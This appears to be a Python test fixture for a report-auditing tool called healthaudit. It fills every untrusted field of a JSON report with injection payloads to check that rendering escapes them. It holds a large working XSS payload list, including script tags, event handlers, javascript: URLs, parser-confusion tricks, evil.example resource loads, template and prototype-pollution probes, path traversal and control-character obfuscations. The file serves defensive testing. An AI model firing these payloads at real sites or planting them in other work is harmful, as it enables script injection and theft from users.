"""Reports in which every text that can come from a stranger is a payload, as a file of JSON that a stranger sends."""

from __future__ import annotations

import json
from collections.abc import Sequence
from typing import Any

from healthaudit.model import Report
from healthaudit.reports.json import SCHEMA
from healthaudit.reports.read_json import read_report

#: Should any of these ever run, a dialog opens, the console tells, or something is asked of the network.
_RUN = "alert(document.domain)"
PAYLOADS = (
    # elements that run, or load something
    f"<script>{_RUN}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<img src=x onerror={_RUN}>",
    f"<img/src='x'/onerror='{_RUN}'//",
    f"<svg onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><script href=data:,{_RUN} />",
    f"<math><mtext><img src onerror={_RUN}></mtext></math>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<iframe src=javascript:{_RUN}>",
    f"<iframe srcdoc='<script>{_RUN}</script>'>",
    f"<object data=javascript:{_RUN}><embed src=javascript:{_RUN}>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    f"<form action=javascript:{_RUN}><button autofocus>x</button></form>",
    f"<a href=javascript:{_RUN} id=x>x</a>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; *{background:url(//evil.example/x.png)}</style>",
    "<table background=//evil.example/x.png>",
    "<template shadowrootmode=open><slot></slot></template>",
    f"<xss onpointerover={_RUN} style=position:fixed;inset:0>",
    # ways out of where text stands
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f'" onmouseover="{_RUN}" autofocus onfocus="{_RUN}',
    f"' onmouseover='{_RUN}' autofocus onfocus='{_RUN}",
    f"` onmouseover=`{_RUN}`",
    f"x onfocus={_RUN} tabindex=1 autofocus",
    f"</script><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea></noscript></template></svg></math><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"--!><script>{_RUN}</script>",
    "<!--<script>",
    f"]]><script>{_RUN}</script>",
    f"<![CDATA[><script>{_RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{_RUN}</script>",
    "</p></article></section></main></body></html>",
    # templates, scripts and style sheets
    "{{ 7 * 7 }} {% include 'x' %} {# #} ${7*7} #{7*7} <%= 7*7 %>",
    "{{ ''.__class__.__mro__ }}",
    f'\\";{_RUN};//',
    f"';{_RUN};//",
    f"\u2028{_RUN}\u2029//",
    '{"__proto__": {"polluted": true}}',
    "__proto__",
    "constructor",
    "expression(alert(1)) url(javascript:alert(1))",
    "}*{background:url(//evil.example/x)}",
    # what one parser leaves and another takes up
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>",
    f"<svg></p><style><a id='</style><img src=1 onerror={_RUN}>'>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt; &#60;img src=x onerror={_RUN}&#62;",
    f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    "<\u0130mg src=x>",
    # addresses
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f" javascript:{_RUN}",
    f"javascript&colon;{_RUN}",
    f"javascript://%0a{_RUN}",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://evil.example/x",
    f'http://x/" onclick="{_RUN}',
    f"https://x/'><script>{_RUN}</script>",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "../../../../etc/passwd",
    '#p1-f1" onclick="alert(1)',
)
#: Such as no name of a rule may hold, but a page, its title and its file.
UNSEEN = tuple(
    payload.replace("script", f"scr{sign}ipt").replace("java", f"ja{sign}va")
    for payload in (f"<script>{_RUN}</script>", f"javascript:{_RUN}", f"<img src=x onerror={_RUN}>")
    for sign in (
        "\0",
        "\t",
        "\n",
        "\r",
        "\x0b",
        "\x1b",
        "\x7f",
        "\x85",
        "\u202e",
        "\u2066",
        "\ufeff",
        "\ufffe",
        "\ud800",
    )
)
_KINDS = ("title", "heading", "paragraph", "list-item", "table-cell", "button", "link", "caption", "quote", "reference",
          "alt-text", "code")  # fmt: skip
_PLACE = {"line": 1, "column": 1, "end_line": 1, "end_column": 2}


def one_page(payloads: Sequence[str], *, source: str = "", title: str = "") -> dict[str, Any]:
    """A page with a block, a finding, a use, a source and a call for each payload."""
    blocks, spans, start = [], [], 0
    for number, words in enumerate(payloads):
        kind = _KINDS[number % len(_KINDS)]
        blocks.append(
            {"kind": kind, "region": "main", "level": 2 * (kind == "heading"), "start": start, "words": words}
        )
        spans.append({"start": start + len(words) // 3, "end": start + max(1, 2 * len(words) // 3)})
        start += len(words) + 1
    numbered = list(zip(range(len(payloads)), payloads, spans, strict=True))
    return {
        "source": source or payloads[0],
        "media": "html",
        "title": title or payloads[0],
        "language": "en",
        "score": 40, "range": [30, 60], "grade": payloads[0], "capped": True,
        "families": {"overclaim": 40}, "family_findings": {"overclaim": len(payloads)}, "ledger": [],
        "facts": dict.fromkeys(("author", "reviewer", "published", "publisher", "canonical"), payloads[0]),
        "profile": {"kind": "sells", "because": list(payloads)},
        "benchmarks": [{"id": words, "question": words, "answer": words} for words in payloads],
        "uses": [_use(words, span) for _, words, span in numbered],
        "sources": [_source(number, words, span) for number, words, span in numbered],
        "sourced": {"with": 1, "of": 2},
        "calls": [_call(words, span) for _, words, span in numbered],
        "notes": list(payloads), "reading_notes": list(payloads),
        "findings": [_finding(number, words, span) for number, words, span in numbered],
        "suppressed": [
            _finding(number, words, span)
            | {"suppression": {"reason": words, "until": words, "source": words} | span | _PLACE}
            for number, words, span in numbered
        ],
        "suppression_problems": [
            {"kind": _named(words), "message": words, "fix": words, "source": words} | span | _PLACE
            for _, words, span in numbered
        ],
        "outcomes": {
            f"{_named(words)}{end}": outcome
            for words in payloads
            for end, outcome in (("", "error"), (" ", "not-applicable"), ("  ", "not-selected"))
        },
        "errors": {_named(words): words for words in payloads},
        "left_out": 1, "gone": 1,
        "blocks": blocks,
        # Each character of the text stands in the source where it stands in the text.
        "offsets": {"text": [0], "source": [0], "source_end": [-1]},
    }  # fmt: skip


def report_of(pages: Sequence[dict[str, Any]], skipped: Sequence[str] = ()) -> Report:
    """Read as healthaudit report reads a file."""
    tool = {"version": "1<b>", "rules": 1, "rules_digest": '"><b>', "facts_as_of": "<b>", "model": "'<b>"}
    left = [{"source": words, "reason": words, "hint": words} for words in skipped]
    return read_report(json.dumps({"schema": SCHEMA, "tool": tool, "pages": list(pages), "skipped": left}))


def _named(words: str) -> str:
    """Names of rules hold no controls: the reader of reports refuses them."""
    return "".join(sign for sign in words if sign.isprintable() or sign in "\u2028\u2029") or "none"


def _finding(number: int, words: str, span: dict[str, int]) -> dict[str, Any]:
    name = _named(words)
    law = {"id": name, "jurisdiction": name, "title": words, "url": words, "unverified": True}
    record = {"id": name, "claim": words, "topic": words, "verdict": words, "source": words, "url": words}
    sides = {"aspect": name, "page": words, "source": words, "named": words, "known_from": words, "url": words}
    return {
        "id": f"{number}{name}", "rule": name, "code": name, "family": "overclaim", "severity": "high",
        "outcome": "review" if number % 2 else "fail", "confidence": 0.5, "message": words, "why": words, "fix": words,
        "opinion": {"likelihood": 0.5, "words": [words]}, "regulations": [law],
        "on_record": [record | {"year": 2020, "unverified": True}],
        "sides": [sides], "sentence": words, "baseline": "new",
        "evidence": [{"role": name, "quote": words} | span | _PLACE] * 7,
    }  # fmt: skip


def _use(words: str, span: dict[str, int]) -> dict[str, Any]:
    return {
        "product": words, "condition": words, "jurisdiction": words, "status": "not-listed", "promoted": True,
        "disclosure": "missing", "source": words, "as_of": words, "settled": False,
        "evidence": [{"role": "claim", "quote": words} | span | _PLACE],
    }  # fmt: skip


def _source(number: int, words: str, span: dict[str, int]) -> dict[str, Any]:
    return {
        "number": number, "entry": words * 8, "status": "differs", "reason": words, "work": words if number % 2 else "",
        "known_from": words, "url": words, "notices": [words],
        "evidence": [{"role": role, "quote": words} | span | _PLACE for role in ("entry", "cites")],
    }  # fmt: skip


def _call(words: str, span: dict[str, int]) -> dict[str, Any]:
    return {
        "label": words, "kind": "telephone", "target": words, "whose": "own", "operator": words, "region": "main",
        "position": 0.5, "evidence": [{"role": "call", "quote": words} | span | _PLACE],
    }  # fmt: skip
